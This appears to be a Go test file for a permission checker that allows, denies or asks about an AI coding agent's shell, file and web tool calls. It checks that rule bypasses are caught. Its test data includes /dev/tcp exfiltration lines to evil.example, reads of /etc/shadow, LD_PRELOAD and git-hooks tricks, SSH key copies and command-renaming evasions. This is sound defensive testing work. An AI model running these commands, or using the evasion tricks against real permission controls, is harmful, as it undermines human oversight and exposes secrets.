package permission_test

import (
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/toold/toold/scheduler/permission"
)

// ruleCases are what the page does not show: traps, and both sides of a bound.
var ruleCases = []struct {
	list, rule, call string
	want             bool
}{
	{"allow", "Bash(safe-cmd *)", "Bash safe-cmd && other-cmd", false},
	{"allow", "Bash(safe-cmd *)", "Bash safe-cmd a | safe-cmd b", true},
	{"allow", "Bash(safe-cmd *)", "Bash safe-cmd a; safe-cmd b & safe-cmd c\nsafe-cmd d", true},
	{"allow", "Bash(safe-cmd *)", "Bash (safe-cmd a; { safe-cmd b; })", true},
	{"allow", "Bash(safe-cmd *)", "Bash safe-cmd $(other-cmd)", false},
	{"allow", "Bash(safe-cmd *)", "Bash safe-cmd <(other-cmd)", false},
	{"allow", "Bash(safe-cmd *)", "Bash f() { other-cmd; }; safe-cmd", false},
	{"allow", "Bash(safe-cmd *)", "Bash eval 'safe-cmd a'", true},
	{"allow", "Bash(safe-cmd *)", "Bash eval \"$x\"", false},
	{"allow", "Bash(safe-cmd *)", "Bash sh -c 'safe-cmd a; other-cmd'", false},
	{"allow", "Bash(safe-cmd *)", "Bash bash --rcfile evil -c 'safe-cmd a'", false},
	{"allow", "Bash(safe-cmd *)", "Bash safe-cmd a 2>&1", true},
	{"allow", "Bash(safe-cmd *)", "Bash safe-cmd a >&2 2>/dev/null", true},
	{"allow", "Bash(safe-cmd *)", "Bash safe-cmd > $OUT", false},
	{"allow", "Bash(safe-cmd *)", "Bash safe-cmd > ~/x", false},
	{"allow", "Bash(safe-cmd *)", "Bash safe-cmd < /etc/shadow", false},
	{"allow", "Bash(safe-cmd *)", "Bash LD_PRELOAD=x safe-cmd", false},
	{"allow", "Bash(safe-cmd *)", "Bash PATH=/tmp; safe-cmd", false},
	{"allow", "Bash(safe-cmd *)", "Bash ./safe-cmd a", false},
	{"allow", "Bash(safe-cmd *)", "Bash 'safe-cmd a'", false},
	{"allow", "Bash(safe-cmd *)", "Bash safe-cmd 'a", false},
	{"allow", "Bash(safe-cmd *)", "Bash safe-cmd " + strings.Repeat("a", 10_001), false},
	{"allow", "Bash(safe-cmd go)", "Bash safe-cmd 'go'", true},
	{"allow", "Bash(safe-cmd a b)", "Bash safe-cmd 'a b'", false},
	{"allow", "Bash(safe-cmd 'a b')", "Bash safe-cmd 'a b'", true},
	{"allow", "Bash(safe-cmd   a)", "Bash safe-cmd a", true},
	{"allow", "Bash(safe-cmd a)", "Bash safe-cmd $IFS a", false},
	{"allow", "Bash(sort *)", "Bash xargs -n1 sort -u", false},
	{"allow", "Bash(safe-cmd *)", "Bash ls | xargs safe-cmd", true},
	{"allow", "Bash(watch *)", "Bash watch safe-cmd", false},
	{"allow", "Bash(watch safe-cmd)", "Bash watch safe-cmd", true},
	{"allow", "Bash", "Bash anything at all", true},
	{"allow", "Bash(*)", "Bash anything > file", true},
	{"allow", "Bash", "Bash FOO=1 make", true},
	{"allow", "Bash", "Bash FOO=1; PATH=/tmp:$PATH; make $FOO", true},
	{"allow", "Bash(*)", "Bash [[ -n $(make) ]] && make \"$x\" > $out", true},
	{"allow", "Bash", "Bash sudo make; find . -delete; ((n++)); a=(1 2); eval \"$x\"", true},
	{"allow", "Bash", "Bash bash -c 'FOO=1 make'; ls | xargs -n1 gzip", true},
	{"allow", "Bash", "Bash $x", false},
	{"allow", "Bash", "Bash make; timeout 5 $x", false},
	{"allow", "Bash", "Bash make 'a", false},
	{"allow", "Bash", "Bash make " + strings.Repeat("a", 10_001), false},
	{"allow", "Bash", "Bash make > .envrc", false},
	{"allow", "Bash(git commit *)", "Bash git -c core.hooksPath=/tmp/x commit", false},
	{"allow", "Bash(git commit *)", "Bash git --no-pager commit -m x", true},
	{"allow", "Bash(git commit *)", "Bash git -C ../other commit -m x", false},
	{"deny", "Bash(rm *)", "Bash ls && rm x", true},
	{"deny", "Bash(rm *)", "Bash env FOO=bar rm x", true},
	{"deny", "Bash(rm *)", "Bash sudo -u root timeout 5 bash -c 'rm x'", true},
	{"deny", "Bash(rm *)", "Bash find . -exec rm {} ;", true},
	{"deny", "Bash(rm *)", "Bash ls | xargs -n1 rm", true},
	{"deny", "Bash(rm *)", "Bash 'r'm x", true},
	{"deny", "Bash(rm *)", "Bash \\rm x", true},
	{"deny", "Bash(rm *)", "Bash echo rm x", false},
	{"deny", "Bash(rm *)", "Bash git commit -m 'rm x'", false},
	{"deny", "Bash(rm *)", "Bash cat <<EOF\nrm x\nEOF", false},
	{"deny", "Bash(rm *)", "Bash cat <<EOF\n$(rm x)\nEOF", true},
	{"deny", "Bash(rm *)", "Bash rm x; echo 'unfinished", true},
	{"deny", "Bash(git push)", "Bash git -c x=y push", true},
	{"deny", "Edit(out/**)", "Bash echo x > out/a", true},
	{"deny", "Edit(out/**)", "Bash tee out/a", true},
	{"deny", "Read(//etc/shadow)", "Bash cat < /etc/shadow", true},
	{"deny", "Read(/.env)", "Read /work/app/.env", true},
	{"deny", "Read(/work/app/.env)", "Read /work/app/.env", true}, // an absolute path was meant
	{"allow", "Read(/etc/passwd)", "Read /etc/passwd", false},
	{"deny", "Read", "Grep /work/app/x", true},
	{"deny", "Edit", "Bash echo x > f", true},
	{"allow", "Edit", "Write /work/app/x", true},
	{"ask", "Bash(git push *)", "Bash git push origin", true},
	{"deny", "*", "Read /work/app/x", true},
	{"deny", "WebFetch(domain:*)", "WebFetch x.org", true},
	{"allow", "WebFetch(domain:bücher.example)", "WebFetch xn--bcher-kva.example", true},
	{"allow", "WebFetch(domain:*.BÜCHER.example)", "WebFetch a.xn--bcher-kva.example", true},
	{"deny", "WebFetch(domain:xn--bcher-kva.example)", "WebFetch bücher.example", true},
	{"allow", "WebFetch(domain:a*.example.com)", "WebFetch api.example.com", true},
	{"allow", "WebFetch(domain:a*.example.com)", "WebFetch a.b.example.com", false},
	{"allow", "WebFetch(domain:example.com)", "WebFetch notexample.com", false},
	{"deny", "WebFetch(domain:*.example)", "Bash echo x > /dev/tcp/evil.example/80", true},
	{"deny", "WebFetch(domain:evil.example)", "Bash exec 3<>/dev/udp/EVIL.example./80", true},
	{"ask", "WebFetch(domain:evil.example)", "Bash cat < /dev/tcp/evil.example/80", true},
	{"allow", "Bash(echo *)", "Bash echo x > /dev/tcp/evil.example/80", false},
	{"allow", "Bash", "Bash echo x > /dev/tcp/evil.example/80", false},
	{"allow", "Bash(echo *)", "Bash echo x > /dev/tcp/localhost/80", true},
	{"deny", "mcp__github__delete_*", "mcp__github__delete_repo", true},
	{"deny", "Agent(model:opus)", `Agent x {"model":"opus"}`, true},
	{"deny", "Agent(model : op*)", `Agent x {"model":"opus"}`, true},
}

// TestRules holds rules against commands beyond the examples of the page.
func TestRules(t *testing.T) {
	t.Parallel()
	for _, c := range ruleCases {
		if got := matches(t, c.list, c.rule, c.call); got != c.want {
			t.Errorf("%s rule %s and the call %.60s: matches %v, want %v", c.list, c.rule, c.call, got, c.want)
		}
	}
}

// TestRulesThatCannotMatch: each is refused, and the form that was probably meant is named and does parse.
func TestRulesThatCannotMatch(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		list       permission.List
		rule, want string
	}{
		{permission.DenyList, "Write(src/**)", "Edit(src/**)"},
		{permission.DenyList, "Glob(src/**)", "Read(src/**)"},
		{permission.AllowList, "Grep(src/**)", "Read(src/**)"},
		{permission.AllowList, "MultiEdit(*.go)", "Edit(*.go)"},
		{permission.DenyList, "Read(file_path:/etc/x)", "Read(/etc/x)"},
		{permission.DenyList, "Bash(command:rm *)", "Bash(rm *)"},
		{permission.AllowList, "mcp__*", "mcp__SERVER__*"},
		{permission.AllowList, "*", "mcp__SERVER__*"},
		{permission.AllowList, "Agent(model:opus)", ""},
		{permission.AllowList, "Skill(commit)", ""},
		{permission.AllowList, "Skill(commit:*)", ""},
		{permission.AllowList, "TodoWrite(x:y)", "TodoWrite"},
		{permission.AllowList, "bash(ls)", "Bash(ls)"},
		{permission.AllowList, "Bash(ls", "Bash(ls)"},
		{permission.AllowList, "Bash()", "Bash"},
		{permission.AllowList, "WebFetch(https://example.com/x)", "WebFetch(domain:example.com)"},
		{permission.AllowList, "WebSearch(x)", "WebSearch"},
		{permission.AllowList, "Read(!x)", ""},
		{permission.AllowList, "", ""},
		{permission.DenyList, "rm -rf *", ""},
	} {
		_, err := permission.ParseRule(c.list, c.rule, origin)
		var wrong *permission.RuleError
		if !errors.As(err, &wrong) {
			t.Errorf("%s rule %q: %v, want a RuleError", c.list, c.rule, err)
			continue
		}
		if wrong.Meant != c.want || !strings.Contains(err.Error(), origin.String()) {
			t.Errorf("%s rule %q: %v; meant %q, want %q", c.list, c.rule, err, wrong.Meant, c.want)
		}
		if c.want != "" {
			if _, err := permission.ParseRule(c.list, c.want, origin); err != nil {
				t.Errorf("what %q was said to mean does not parse: %v", c.rule, err)
			}
		}
	}
}

// TestDoubtfulDeny: where only the run would show whether a deny rule matches, the user is asked, in every mode that asks.
func TestDoubtfulDeny(t *testing.T) {
	t.Parallel()
	rules := compile(t, "deny Bash(rm -rf *)", "allow Bash(rm *)", "allow Bash(echo *)")
	for call, want := range map[string]permission.Decision{
		"Bash rm x":          permission.Allow,
		"Bash rm -rf x":      permission.Deny,
		"Bash rm $FLAGS x":   permission.Ask,
		"Bash rm -r $x":      permission.Allow,
		"Bash echo $FLAGS":   permission.Allow,
		"Bash $CMD -rf x":    permission.Ask,
		"Bash rm \"$a\" -rf": permission.Ask,
	} {
		got := permission.Decide(factsOf(t, call), permission.Policy{Rules: rules})
		if got.Decision != want {
			t.Errorf("%s: %s (%s), want %s", call, got.Decision, got.Text, want)
		}
	}
	bypass := permission.Policy{Rules: rules, Mode: permission.BypassPermissions}
	if got := permission.Decide(factsOf(t, "Bash rm $FLAGS x"), bypass); got.Decision != permission.Ask {
		t.Errorf("in bypassPermissions: %s (%s)", got.Decision, got.Text)
	}
}

// TestUnseen: what a script hides, or a program may do with a name, is not taken for harmless where a rule is about the like.
func TestUnseen(t *testing.T) {
	t.Parallel()
	rules := compile(t, "deny Bash(curl *)", "deny Bash(*--force*)", "deny Read(.env)", "deny Edit(locked.txt)", "allow Bash(git push *)",
		"allow Bash(mytool *)", "allow Bash(install *)", "allow Bash(npm *)", "allow Bash(cp *)", "allow Bash(nice *)", "allow Bash(timeout *)")
	deep := strings.Repeat("timeout 5 ", 12)
	for call, want := range map[string]permission.Decision{
		"Bash git push $F":                    permission.Ask,
		"Bash git push origin":                permission.Allow,
		"Bash git push 'origin' --for'ce'":    permission.Deny,
		"Bash [[ -f x ]] && npm test":         permission.Allow,
		"Bash ((1)) && npm test":              permission.Allow,
		"Bash mytool .env":                    permission.Ask,
		"Bash mytool file=.env":               permission.Ask,
		"Bash mytool other":                   permission.Allow,
		"Bash install x locked.txt":           permission.Deny,
		"Bash cp x locked.txt":                permission.Deny,
		"Bash cp sub/locked.txt .":            permission.Deny,
		"Bash cp sub/.envrc .":                permission.Ask,
		"Bash " + deep + "curl x":             permission.Ask,
		"Bash echo x; time ! curl x":          permission.Ask,
		"Bash npm test > /dev/stderr":         permission.Allow,
		"Bash npm test 2>&1 | cat /dev/stdin": permission.Allow,
	} {
		f := factsOf(t, call)
		for _, mode := range []permission.Mode{permission.Default, permission.BypassPermissions} {
			if got := permission.Decide(f, permission.Policy{Rules: rules, Mode: mode}); got.Decision != want && !(want == permission.Ask && strings.Contains(call, ".envrc")) {
				t.Errorf("%s in mode %s: %s (%s), want %s", call, mode, got.Decision, got.Text, want)
			}
		}
	}
}

// compile reads "list rule" lines.
func compile(t testing.TB, lines ...string) *permission.Rules {
	t.Helper()
	var rules []permission.Rule
	for i, line := range lines {
		list, text, _ := strings.Cut(line, " ")
		at := origin
		at.Line = i + 1
		which := slices.IndexFunc([]permission.List{permission.DenyList, permission.AskList, permission.AllowList}, func(l permission.List) bool { return l.String() == list })
		rule, err := permission.ParseRule(permission.List(which), text, at)
		if err != nil {
			t.Fatal(err)
		}
		rules = append(rules, rule)
	}
	return permission.Compile(rules, anchors)
}

// TestAcceptEdits: which commands the mode lets pass by itself.
func TestAcceptEdits(t *testing.T) {
	t.Parallel()
	for call, want := range map[string]permission.Decision{
		"Bash mkdir -p a/b && touch a/b/c":   permission.Allow,
		"Bash rm -r build":                   permission.Allow,
		"Bash mv a b; cp -r b c":             permission.Allow,
		"Bash sed -i 's/a/b/' x.txt":         permission.Allow,
		"Bash sed -i 's/a/b/w /tmp/x' x":     permission.Ask,
		"Bash sed -i 's/a/b/e' x":            permission.Ask,
		"Bash rm $x":                         permission.Ask,
		"Bash rm *.o":                        permission.Ask,
		"Bash rm /srv/x":                     permission.Ask,
		"Bash cp /home/me/.ssh/id_rsa x":     permission.Ask,
		"Bash cp x /work/app/.git/hooks/y":   permission.Ask,
		"Bash cp x /work/app/.git/HEAD":      permission.Ask,
		"Bash echo x >> .git/info/exclude":   permission.Ask,
		"Bash echo x > .gitattributes":       permission.Ask,
		"Bash cp dots/.npmrc .":              permission.Ask,
		"Bash mv dots/.vscode .":             permission.Ask,
		"Bash mkdir x && npm test":           permission.Ask,
		"Bash echo x > notes.txt":            permission.Allow,
		"Bash echo x > .envrc":               permission.Ask,
		"Bash sudo rm x":                     permission.Ask,
		"Bash cat x.txt | tee out.txt":       permission.Ask,
		"Write /work/app/x":                  permission.Allow,
		"Write /work/app/.vscode/tasks.json": permission.Ask,
		"Write /work/app/.git/HEAD":          permission.Ask,
		"Write /work/app/.gitattributes":     permission.Ask,
		"Write /srv/x":                       permission.Ask,
	} {
		got := permission.Decide(factsOf(t, call), permission.Policy{Mode: permission.AcceptEdits})
		if got.Decision != want {
			t.Errorf("%s: %s (%s), want %s", call, got.Decision, got.Text, want)
		}
	}
}

// TestProtected: an allow rule does not pass these, bypassPermissions does.
func TestProtected(t *testing.T) {
	t.Parallel()
	rules := compile(t, "allow Edit", "allow Edit(//**)")
	for name, want := range map[string]bool{
		"/work/app/.git/hooks/pre-commit": true, "/work/app/.git/config": true, "/work/app/.GIT/Config": true, "/work/app/.git": true,
		"/work/app/.git/HEAD": true, "/work/app/.git/info/exclude": true, "/work/app/.git/objects/pack/x": true, "/work/app/.gitattributes": true,
		"/work/app/sub/.gitattributes": true, "/work/app/.github/x.yml": false, "/work/app/.gitignore": false, "/work/app/.gitmodules": true, "/home/me/.bashrc": true,
		"/work/app/.envrc": true, "/work/app/a/.npmrc": true, "/work/app/.vscode/settings.json": true, "/work/app/.idea/x": true,
		"/work/app/.husky/pre-push": true, "/work/app/.mcp.json": true, "/work/app/.toold/settings.json": true,
		"/work/app/.claude/settings.json": true, "/work/app/.claude/worktrees/a/main.go": false, "/home/me/.ssh/authorized_keys": true,
		"/home/me/.config/gcloud/x": true, "/work/app/config/gh/x": false, "/work/app/src/main.go": false,
		"/work/app/.cursor/mcp.json": true, "/work/app/.zed/tasks.json": true, "/work/app/.helix/config.toml": true, "/home/me/.codex/config.toml": true,
		"/work/app/.gemini/settings.json": true, "/work/app/.hg/hgrc": true, "/work/app/.hg/dirstate": false, "/work/app/.Rprofile": true,
		"/work/app/.rprofile": true, "/work/app/a/.nvimrc": true, "/work/app/a/.dir-locals.el": true, "/work/app/.pdbrc": true,
		"/work/app/.githooks/pre-commit": true, "/work/app/.github/workflows/ci.yml": true, "/work/app/workflows/ci.yml": false, "/work/app/mise.toml": true,
	} {
		f := &permission.Facts{Tool: "Write", Accesses: []permission.Access{{Named: name, Real: name, Write: true, Inside: true}}}
		got := permission.Decide(f, permission.Policy{Rules: rules})
		if (got.Decision == permission.Ask) != want {
			t.Errorf("%s: %s (%s)", name, got.Decision, got.Text)
		}
		if got := permission.Decide(f, permission.Policy{Rules: rules, Mode: permission.BypassPermissions}); got.Decision != permission.Allow {
			t.Errorf("%s in bypassPermissions: %s", name, got.Decision)
		}
	}
	fresh := &permission.Facts{Tool: "Write", Accesses: []permission.Access{{
		Named: "/work/app/new/.git/config", Real: "/work/app/new/.git/config", Missing: 3, Write: true, Inside: true,
	}}}
	if got := permission.Decide(fresh, permission.Policy{Rules: rules}); got.Decision != permission.Allow {
		t.Errorf("a new repository: %s (%s)", got.Decision, got.Text)
	}
}

// TestRenamedProgram: a rule that lets a name be given to another program does not let that one run.
func TestRenamedProgram(t *testing.T) {
	t.Parallel()
	rules := compile(t, "allow Bash(hash *)")
	for script, want := range map[string]permission.Decision{
		"hash -p /bin/rm ls": permission.Allow, "hash -p /bin/rm ls; cat x": permission.Allow,
		"hash -p /bin/rm ls; ls x": permission.Ask, "hash -p ./x ls && echo $(ls x)": permission.Ask,
	} {
		if got := permission.Decide(factsOf(t, "Bash "+script), permission.Policy{Rules: rules}); got.Decision != want {
			t.Errorf("%s: %s (%s), want %s", script, got.Decision, got.Text, want)
		}
	}
}

// TestOrderOfReasons: where a mode has decided that comes first, and is said once.
func TestOrderOfReasons(t *testing.T) {
	t.Parallel()
	v := permission.Decide(factsOf(t, "Bash make; reset"), permission.Policy{Mode: permission.DontAsk})
	if len(v.Sentences) != 3 || v.Sentences[0] != "The permission mode dontAsk does not allow this call." || strings.Join(v.Sentences, " ") != v.Text {
		t.Errorf("%q, in one %q", v.Sentences, v.Text)
	}
}

// TestDenialNames: a denial names the rule, its file and line, and the part of the command.
func TestDenialNames(t *testing.T) {
	t.Parallel()
	v := permission.Decide(factsOf(t, "Bash cd src && git push --force"), permission.Policy{Rules: compile(t, "allow Bash(cd *)", "deny Bash(git push *)")})
	for _, part := range []string{"Bash(git push *)", origin.File + ":2", "`git push --force`"} {
		if !strings.Contains(v.Text, part) {
			t.Errorf("%q does not name %s", v.Text, part)
		}
	}
	if g := v.Reasons[0]; g.Rule.Origin.Line != 2 || g.Part != "git push --force" {
		t.Errorf("the ground is %+v", g)
	}
}

// TestReasons: a reason's sentence names what asks, and why, and does not name leftovers of a wrapper's words.
func TestReasons(t *testing.T) {
	t.Parallel()
	const (
		runs  = ", which is not known to be read-only: it runs another program in a way of its own."
		makes = ", which is not known to be read-only: which commands `xargs` makes with these flags is not followed."
	)
	for script, want := range map[string]string{
		"ls | xargs -I{} mv {} {}.bak":        "No rule allows `xargs -I{} mv {} {}.bak`" + runs,
		"ls | xargs -P 4 -n 1 gzip":           "No rule allows `xargs -P 4 -n 1 gzip`" + runs,
		"ls | xargs -o gzip":                  "No rule allows `xargs -o gzip`" + makes,
		"git ls-files | xargs -0 sed -i s/a/": "No rule allows `xargs -0 sed -i s/a/`" + runs,
		"find . -exec rm {} +":                "No rule allows `find . -exec rm {} +`" + runs,
		"sudo rm x":                           "No rule allows `sudo rm x`, which is not known to be read-only: it runs another command in its own way, which only a rule for `sudo` itself can allow.",
		"git commit -m x":                     "No rule allows `git commit -m x`, which is not known to be read-only: `git commit` is not among the commands known to only read.",
		"rm x && kill 1":                      "No rule allows `rm x`, which is not known to be read-only: it writes files. No rule allows `kill 1`, which is not known to be read-only: it signals a process, perhaps to end it.",
		`eval "$x"; make`:                     "No rule but Bash, which is every command, can allow it, because of `eval \"$x\"`: what it runs is only known when it runs.",
		`eval "$x"; $y`:                       "No rule can allow it, because of `eval \"$x\"`: what it runs is only known when it runs.",
		"echo x > out":                        "No rule allows it to write /work/app/out.",
		"cat /srv/x":                          "It reads /srv/x, which is outside the roots and the other readable places.",
		"echo x > /srv/x":                     "It writes /srv/x, which is outside the roots.",
	} {
		if got := permission.Decide(factsOf(t, "Bash "+script), permission.Policy{}); got.Text != want {
			t.Errorf("%s:\n got %s\nwant %s", script, got.Text, want)
		}
	}
}

// FuzzParseRule: any text is a rule or a RuleError, and asking it never panics.
func FuzzParseRule(f *testing.F) {
	for _, seed := range []string{"Bash(npm run *)", "Read(//a/**)", "WebFetch(domain:*.x)", "mcp__a__*", "Edit(~/x[a-z]\\)", "Bash(a:b)", "(", "Read(!x)"} {
		f.Add(seed, "git push --force && echo $x > y")
	}
	f.Fuzz(func(t *testing.T, text, script string) {
		facts := &permission.Facts{Tool: "Bash", Hosts: []string{script}, Input: map[string]string{"a": script}}
		if script != "" && !strings.Contains(script, "\x00") && strings.TrimSpace(script) != "" && len(script) < 1000 {
			addScript(t, facts, script)
		}
		for _, list := range []permission.List{permission.DenyList, permission.AskList, permission.AllowList} {
			rule, err := permission.ParseRule(list, text, origin)
			if err != nil {
				continue
			}
			permission.Decide(facts, permission.Policy{Rules: permission.Compile([]permission.Rule{rule}, anchors)})
		}
	})
}

// BenchmarkDecide joins a verdict on a command of three parts against 1,000 rules, none of which matches before the last.
func BenchmarkDecide(b *testing.B) {
	lines := make([]string, 0, 1000)
	for i := range 400 {
		lines = append(lines, fmt.Sprintf("allow Bash(tool%d run *)", i), fmt.Sprintf("deny Bash(other%d *)", i))
	}
	for i := range 100 {
		lines = append(lines, fmt.Sprintf("deny Read(secret%d/**)", i), fmt.Sprintf("allow Edit(src%d/*.go)", i))
	}
	rules := compile(b, lines...)
	facts := &permission.Facts{Tool: "Bash"}
	addScript(b, facts, "tool399 run --all ./internal/some/where | tool398 run | sort -u > /work/app/src99/list.go && cat list.txt")
	for b.Loop() {
		if v := permission.Decide(facts, permission.Policy{Rules: rules}); v.Decision != permission.Allow {
			b.Fatal(v)
		}
	}
}
